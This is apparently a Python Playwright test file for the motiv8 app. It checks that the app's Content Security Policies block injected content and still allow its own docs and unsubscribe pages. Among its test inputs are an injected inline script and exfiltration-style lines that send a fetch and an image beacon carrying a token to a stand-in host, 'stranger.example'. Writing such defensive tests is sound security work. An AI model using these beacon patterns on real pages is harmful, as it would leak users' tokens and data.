"""What the Content Security Policies allow: all that the pages do, and nothing of a stranger's."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Browser

from motiv8.accounts.unsubscribe import unsubscribe_token
from motiv8_tooling.local.local_stack import LocalStack
from motiv8_tooling.local.provisioning import client

Open = Callable[..., Any]
VIOLATED = """() => new Promise((said) => {
    document.addEventListener("securitypolicyviolation", (event) => said(event.effectiveDirective), {once: true});
    %s
})"""


@pytest.mark.parametrize(
    ("attempt", "directive"),
    [
        ("const it = document.createElement('script'); it.textContent = '1'; document.head.append(it);", "script-src"),
        ("fetch('https://stranger.example/').catch(() => 0);", "connect-src"),
        ("new Image().src = 'https://stranger.example/?token';", "img-src"),
        ("const it = document.createElement('iframe'); it.src = '/'; document.body.append(it);", "frame-src"),
    ],
)
def test_what_was_slipped_into_the_app_neither_runs_nor_sends(visit: Open, attempt: str, directive: str) -> None:
    window = visit()
    window.heading("Sign in")
    assert window.page.evaluate(VIOLATED % attempt).startswith(directive)
    assert window.blocked
    window.blocked.clear()


def test_the_apis_own_pages_work_under_their_policies(stack: LocalStack, browser: Browser) -> None:
    secrets = client("secretsmanager", stack.emulator)
    secret = secrets.get_secret_value(SecretId="motiv8-links-local")["SecretString"]
    token = unsubscribe_token("somebody", secret)
    page = browser.new_page()
    blocked: list[str] = []
    page.on("console", lambda said: blocked.extend([said.text] * ("Content Security Policy" in said.text)))
    page.goto(f"{stack.front.url}/docs")
    page.locator("#swagger-ui .info .title").wait_for()
    page.goto(f"{stack.front.url}/v1/mail/unsubscribe?token={token}")
    button = page.get_by_role("button", name="Unsubscribe")
    assert button.evaluate("it => getComputedStyle(it).paddingLeft") == "16px"
    button.click()
    page.get_by_text("You are unsubscribed.").wait_for()
    assert blocked == []
    page.close()
